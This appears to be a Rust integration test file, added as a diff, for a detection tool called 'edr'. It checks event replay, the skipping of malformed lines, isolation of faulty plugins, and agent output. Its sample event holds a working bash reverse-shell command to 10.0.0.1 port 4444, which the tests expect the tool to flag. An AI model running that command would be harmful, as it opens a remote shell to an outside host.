@@ -1,0 +1,94 @@
+//! The `edr` command line, end to end.
+
+mod common;
+use std::io::Write;
+use std::process::{Command, Stdio};
+
+const EXAMPLE: &str = r#"{"event":{"category":["process"],"type":["start"]},"process":{"pid":4242,"executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"command_line":"bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1","parent":{"pid":4200,"executable":"/usr/sbin/nginx"}}}"#;
+
+fn edr(args: &[&str], stdin: &str) -> (String, String, bool) {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_edr"))
+        .args(args)
+        .env("EDR_LOG", "warn")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
+    let out = child.wait_with_output().unwrap();
+    (String::from_utf8(out.stdout).unwrap(), String::from_utf8(out.stderr).unwrap(), out.status.success())
+}
+
+fn alerts(stdout: &str) -> Vec<serde_json::Value> {
+    stdout.lines().map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}"))).collect()
+}
+
+#[test]
+fn replay_of_the_issue_example_alerts_from_lineage_and_reverse_shell() {
+    let (out, err, ok) = edr(&["replay", "-"], &format!("{EXAMPLE}\n"));
+    assert!(ok, "{err}");
+    let alerts = alerts(&out);
+    let mut plugins: Vec<&str> = alerts.iter().map(|a| a["edr"]["plugin"].as_str().unwrap()).collect();
+    plugins.sort();
+    assert_eq!(plugins, vec!["lineage", "reverse-shell"], "{out}");
+    for a in &alerts {
+        assert_eq!(a["event"]["kind"], "alert");
+        assert!(a["rule"]["id"].as_str().unwrap().starts_with("edr."));
+        assert!(a["rule"]["name"].is_string());
+        assert_eq!(a["rule"]["author"][0], "edr project");
+        assert!(a["event"]["severity"].as_u64().unwrap() > 0);
+        assert!(a["threat"]["technique"]["id"][0].as_str().unwrap().starts_with('T'));
+        assert!(a["message"].is_string());
+        assert_eq!(a["process"]["pid"], 4242);
+        assert_eq!(a["process"]["executable"], "/usr/bin/bash");
+        assert_eq!(a["process"]["parent"]["executable"], "/usr/sbin/nginx");
+    }
+}
+
+#[test]
+fn replay_reports_malformed_lines_by_number_and_goes_on() {
+    let input = format!("not json\n{{\"event\":{{\"category\":\"dns\"}}}}\n{EXAMPLE}\n[1,2]\n");
+    let (out, err, ok) = edr(&["replay", "-"], &input);
+    assert!(ok, "{err}");
+    assert!(err.contains("line 1: skipped: not valid JSON"), "{err}");
+    assert!(err.contains("line 2: skipped: field `event.category`"), "{err}");
+    assert!(err.contains("line 4: skipped: expected a JSON object"), "{err}");
+    assert!(err.contains("3 malformed lines skipped"), "{err}");
+    assert_eq!(alerts(&out).len(), 2);
+}
+
+#[test]
+fn replay_with_a_trapping_and_a_looping_plugin_still_alerts_from_the_builtins() {
+    let panic = common::plugin_path("edr-hostile-panic");
+    let spin = common::plugin_path("edr-hostile-infinite-loop");
+    let (out, err, ok) = edr(&["replay", "--plugin", panic.to_str().unwrap(), "--plugin", spin.to_str().unwrap(), "-"], &format!("{EXAMPLE}\n{EXAMPLE}\n"));
+    assert!(ok, "{err}");
+    assert_eq!(alerts(&out).len(), 4, "{out}\n{err}");
+    assert!(err.contains("plugin edr-hostile-panic") && err.contains("traps"), "{err}");
+    assert!(err.contains("plugin edr-hostile-infinite-loop") && err.contains("1 timeouts"), "{err}");
+}
+
+#[test]
+fn bad_config_is_a_clear_error() {
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = dir.path().join("edr.toml");
+    std::fs::write(&cfg, "[runtime]\nbatch_size = -1\n").unwrap();
+    let (_, err, ok) = edr(&["replay", "--config", cfg.to_str().unwrap(), "-"], "");
+    assert!(!ok);
+    assert!(err.contains("edr.toml: line 2"), "{err}");
+}
+
+#[test]
+fn agent_reads_a_file_source_and_writes_the_alerts_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let events = dir.path().join("events.jsonl");
+    std::fs::write(&events, format!("{EXAMPLE}\n")).unwrap();
+    let cfg = dir.path().join("edr.toml");
+    std::fs::write(&cfg, format!("data_dir = {:?}\n[output]\nstdout = false\n[collect]\nsource = {:?}\n", dir.path().join("data"), events)).unwrap();
+    let (out, err, ok) = edr(&["agent", "--config", cfg.to_str().unwrap()], "");
+    assert!(ok, "{err}");
+    assert!(out.is_empty());
+    let written = std::fs::read_to_string(dir.path().join("data/alerts.jsonl")).unwrap();
+    assert_eq!(alerts(&written).len(), 2);
+}
